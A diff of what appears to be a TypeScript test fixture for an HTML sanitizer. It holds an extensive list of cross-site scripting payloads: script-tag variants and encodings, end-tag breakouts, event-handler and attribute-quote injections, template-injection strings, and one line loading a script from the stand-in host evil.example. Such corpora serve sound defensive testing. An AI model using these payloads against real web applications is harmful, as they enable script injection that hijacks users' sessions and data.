@@ -1,56 +1,56 @@
-import { image, run, script } from './run.ts'
+import { imagePayload, payload, scriptPayload } from './payload.ts'
 
 const scripts = [
-  script,
-  script.toUpperCase().replace(run.toUpperCase(), run),
-  `<ScRiPt>${run}</sCrIpT>`,
-  `<script >${run}</script >`,
-  `<script\n>${run}</script\n>`,
-  `<script\t>${run}</script\t>`,
-  `<script/x>${run}</script/x>`,
-  `<script>${run}`,
-  `<script>${run}//`,
-  `<<script>${run}//<</script>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `<script type=module>${run}</script>`,
-  `<script nonce="">${run}</script>`,
-  `<script src=data:text/javascript,${run}></script>`,
+  scriptPayload,
+  scriptPayload.toUpperCase().replace(payload.toUpperCase(), payload),
+  `<ScRiPt>${payload}</sCrIpT>`,
+  `<script >${payload}</script >`,
+  `<script\n>${payload}</script\n>`,
+  `<script\t>${payload}</script\t>`,
+  `<script/x>${payload}</script/x>`,
+  `<script>${payload}`,
+  `<script>${payload}//`,
+  `<<script>${payload}//<</script>`,
+  `<scr<script>ipt>${payload}</scr</script>ipt>`,
+  `<script type=module>${payload}</script>`,
+  `<script nonce="">${payload}</script>`,
+  `<script src=data:text/javascript,${payload}></script>`,
   '<script src=//evil.example/x.js></script>',
   '<script src=/assets/main.js></script>',
   `<script>top[/ow/.source+'ned']=1</script>`,
   '<script>top["\\x6f\\x77\\x6e\\x65\\x64"]=1</script>',
 ]
 
-/** Decoded once too often, by whoever, these become the first of the scripts. */
+/** Encodings of the first script, which run if anything decodes them once too often. */
 const encodings = [
-  script.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
-  script.replaceAll('<', '&LT;').replaceAll('>', '&GT;'),
-  script.replaceAll('<', '&lt').replaceAll('>', '&gt'),
-  script.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
-  script.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
-  script.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
-  script.replaceAll('<', '&#X00003C;').replaceAll('>', '&#X00003E;'),
-  script.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
-  script.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
-  script.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
-  script.replaceAll('<', '\\74').replaceAll('>', '\\76'),
-  script.replaceAll('<', '%3C').replaceAll('>', '%3E'),
-  script.replaceAll('<', '%253C').replaceAll('>', '%253E'),
-  script.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
-  script.replaceAll('<', '¼').replaceAll('>', '¾'),
-  script.replaceAll('<', '＜').replaceAll('>', '＞'),
-  script.replaceAll('<', '﹤').replaceAll('>', '﹥'),
-  script.replaceAll('<', '‹').replaceAll('>', '›'),
+  scriptPayload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  scriptPayload.replaceAll('<', '&LT;').replaceAll('>', '&GT;'),
+  scriptPayload.replaceAll('<', '&lt').replaceAll('>', '&gt'),
+  scriptPayload.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
+  scriptPayload.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
+  scriptPayload.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
+  scriptPayload.replaceAll('<', '&#X00003C;').replaceAll('>', '&#X00003E;'),
+  scriptPayload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
+  scriptPayload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
+  scriptPayload.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
+  scriptPayload.replaceAll('<', '\\74').replaceAll('>', '\\76'),
+  scriptPayload.replaceAll('<', '%3C').replaceAll('>', '%3E'),
+  scriptPayload.replaceAll('<', '%253C').replaceAll('>', '%253E'),
+  scriptPayload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
+  scriptPayload.replaceAll('<', '¼').replaceAll('>', '¾'),
+  scriptPayload.replaceAll('<', '＜').replaceAll('>', '＞'),
+  scriptPayload.replaceAll('<', '﹤').replaceAll('>', '﹥'),
+  scriptPayload.replaceAll('<', '‹').replaceAll('>', '›'),
 ]
 
-/** The end of whatever a text might stand in, and then a beginning. */
+/** End tags of possible enclosing elements, followed by a payload. */
 const breakouts = [
   ...['script', 'style', 'title', 'textarea', 'noscript', 'template', 'iframe', 'xmp', 'noembed', 'noframes'],
   ...['select', 'svg', 'math', 'button', 'article', 'body'],
 ]
   .map((element) => `</${element}>`)
   .concat('-->', '--!>', ']]>', '?>', '%>', '*/', '"}]}</script>', '</SCRIPT\t\n x>')
-  .flatMap((end) => [end + script, end + image])
+  .flatMap((end) => [end + scriptPayload, end + imagePayload])
 
 const handlers = [
   ...['img src=x onerror', 'image src=x onerror', 'video src=x onerror', 'audio src=x onerror', 'svg onload'],
@@ -87,56 +87,56 @@ const handlers = [
     'input onpaste',
     'div onscrollsnapchange',
   ],
-].map((start) => `<${start}=${run}>`)
+].map((start) => `<${start}=${payload}>`)
 
 const spelledHandlers = [
-  `<img/src=x/onerror=${run}>`,
-  `<img\nsrc=x\nonerror=${run}>`,
-  `<img\tsrc=x\tonerror\t=\t${run}>`,
-  `<img src="x" onerror="${run}">`,
-  `<img src='x' onerror='${run}'>`,
-  `<img src=\`x\` onerror=\`${run}\`>`,
-  `<IMG SRC=x OnErRoR=${run}>`,
+  `<img/src=x/onerror=${payload}>`,
+  `<img\nsrc=x\nonerror=${payload}>`,
+  `<img\tsrc=x\tonerror\t=\t${payload}>`,
+  `<img src="x" onerror="${payload}">`,
+  `<img src='x' onerror='${payload}'>`,
+  `<img src=\`x\` onerror=\`${payload}\`>`,
+  `<IMG SRC=x OnErRoR=${payload}>`,
   `<img src=x onerror=&#116;op.owned=1>`,
   `<img src=x onerror="&#x74;op&period;owned&equals;1">`,
   `<img src=x onerror=\\u0074op.owned=1>`,
-  `<img src onerror=${run} `,
-  `<img src=x onerror=${run}//`,
-  `<img src=x:x onerror=${run} alt="`,
-  `<img """>${script}">`,
+  `<img src onerror=${payload} `,
+  `<img src=x onerror=${payload}//`,
+  `<img src=x:x onerror=${payload} alt="`,
+  `<img """>${scriptPayload}">`,
   `<img src=1 href=1 onerror="with(top)owned=1"></img>`,
-  `<img srcset=x onerror=${run}>`,
+  `<img srcset=x onerror=${payload}>`,
 ]
 
-/** Quotes end an attribute, or a string in a script; with a backslash before them they might end neither, or both. */
+/** Quotes that end an attribute or a string in a script, with and without backslashes. */
 const attributes = ['"', "'", '`', '', '\\"', '&quot;'].flatMap((quote) => [
-  `x${quote} onmouseover=${run} x=${quote}`,
-  `x${quote} autofocus tabindex=1 onfocus=${run} x=${quote}`,
-  `x${quote}>${image}`,
-  `x${quote}/style=animation-name:x/onanimationstart=${run}//`,
-  `x${quote};${run}//`,
+  `x${quote} onmouseover=${payload} x=${quote}`,
+  `x${quote} autofocus tabindex=1 onfocus=${payload} x=${quote}`,
+  `x${quote}>${imagePayload}`,
+  `x${quote}/style=animation-name:x/onanimationstart=${payload}//`,
+  `x${quote};${payload}//`,
 ])
 
 const templates = [
-  `\${${run}}`,
-  `{{${run}}}`,
-  `{{constructor.constructor('${run}')()}}`,
-  `{%import os%}{{${run}}}`,
-  `<%=${run}%>`,
-  `#{${run}}`,
-  `[[\${${run}}]]`,
-  `*{${run}}`,
-  `@{${run}}`,
-  `');${run}//`,
-  `\\');${run}//`,
-  `\u2028${run}\u2028x`.trim(),
-  `//\u2029${run}`,
-  `*/${run}/*`,
+  `\${${payload}}`,
+  `{{${payload}}}`,
+  `{{constructor.constructor('${payload}')()}}`,
+  `{%import os%}{{${payload}}}`,
+  `<%=${payload}%>`,
+  `#{${payload}}`,
+  `[[\${${payload}}]]`,
+  `*{${payload}}`,
+  `@{${payload}}`,
+  `');${payload}//`,
+  `\\');${payload}//`,
+  `\u2028${payload}\u2028x`.trim(),
+  `//\u2029${payload}`,
+  `*/${payload}/*`,
   '__proto__',
   'constructor',
 ]
 
-/** Markup that begins in a text, and would not stay in it. */
+/** Markup that starts in the text and extends beyond it. */
 export const markup: string[] = [
   ...scripts,
   ...encodings,
